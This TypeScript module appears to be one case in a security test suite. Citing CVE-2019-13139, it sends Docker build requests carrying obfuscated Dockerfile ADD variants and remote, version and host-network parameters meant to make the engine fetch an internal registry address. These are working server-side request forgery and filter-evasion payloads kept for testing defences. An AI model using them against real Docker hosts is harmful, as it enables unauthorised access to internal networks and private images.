import { archive, type Attempt, calls, type Call } from './book';

export const attempt: Attempt = {
  title: 'let the builder fetch what only the engine’s host can reach',
  source: 'CVE-2019-13139 and its family: build contexts and files by address',
  try(world) {
    const t = `t=${encodeURIComponent(`${world.registry}/ann/stolen:one`)}`;
    const address = `http://${world.registry}/v2/`;
    const texts = [`ADD ${address} /x`, `ADD ["${address}", "/x"]`, `ADD ["\\u0068ttp://${world.registry}/", "/x"]`, `ARG A=${address}\nADD $A /x`,
      `ENV E=\nADD ht\${E}tp://${world.registry}/ /x`, `ONBUILD ADD ${address} /x`, `ADD git@${world.registry}:x /x`, `add\t${address}\t/x`,
      `ADD ["${address.replace('//', "'/'/")}", "/x"]`, `ADD ["${address.replace('//', '\\u0022/\\u0022/')}", "/x"]`, `ONBUILD ADD ["${address.replace('//', "'/'/")}", "/x"]`];
    return calls(world, [
      ...texts.map((text): Call => ['POST', `/build?${t}`, archive([['Dockerfile', `FROM scratch\n${text}\n`]])]),
      ...[address, 'git://127.0.0.1:1/x', `${address}#x`, 'client-session', '-'].map((remote): Call => ['POST',
        `/build?${t}&remote=${encodeURIComponent(remote)}`, archive([['Dockerfile', 'FROM scratch\n']])]),
      ['POST', `/build?${t}&version=2`, archive([['Dockerfile', 'FROM scratch\n']])],
      ['POST', `/build?${t}&networkmode=host`, archive([['Dockerfile', 'FROM scratch\n']])],
    ]);
  },
};
